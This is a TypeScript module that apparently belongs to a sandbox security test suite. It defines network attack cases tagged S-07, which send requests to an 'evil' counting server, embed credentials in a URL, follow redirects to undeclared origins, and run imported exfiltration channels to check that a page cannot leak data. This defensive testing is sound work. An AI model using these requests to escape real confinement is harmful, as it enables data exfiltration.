import { type Arena, type Attack, attemptAll, type Companion } from "../attack.ts";
import { channelNames, tryChannels } from "./exfiltration.ts";

async function ask(url: string): Promise<string> {
  const response = await globalThis.fetch(url);
  return response.text();
}

/** Address at the declared origin; unconfined, where nothing is declared, at the counting server. */
function declared(arena: Arena, path: string): string {
  return new URL(path, arena.declared ?? arena.evil).href;
}

/** S-07, S-09: from one declared origin to all others, and from a declared origin to code. */
export const networkAttacks: readonly Attack[] = [
  {
    id: "S-07",
    name: "other origins",
    publication: "declared",
    run: (arena) =>
      attemptAll({
        undeclared: () => ask(new URL("/hit/undeclared", arena.evil).href),
        "user information": () => ask(declared(arena, "/hit/user-information").replace("://", "://user:word@")),
        "redirect to an undeclared origin": () => ask(declared(arena, "/redirect-away")),
      }),
  },
  {
    id: "S-07",
    name: "own ways to a declared origin",
    publication: "declared",
    // All but the shim: what the proxy asks for must come from the server, never from the user's browser.
    run: async (arena) => ({
      gained: [],
      evidence: tryChannels(
        { ...arena, evil: arena.declared ?? arena.evil },
        channelNames.filter((name) => name !== "fetch"),
      ),
    }),
  },
];

/** The origin that is declared can be reached: what the others are measured by. */
export const networkCompanions: readonly Companion[] = [
  {
    id: "S-07",
    name: "declared origin",
    run: (arena) => attemptAll({ declared: () => ask(declared(arena, "/hit/declared")) }),
  },
];
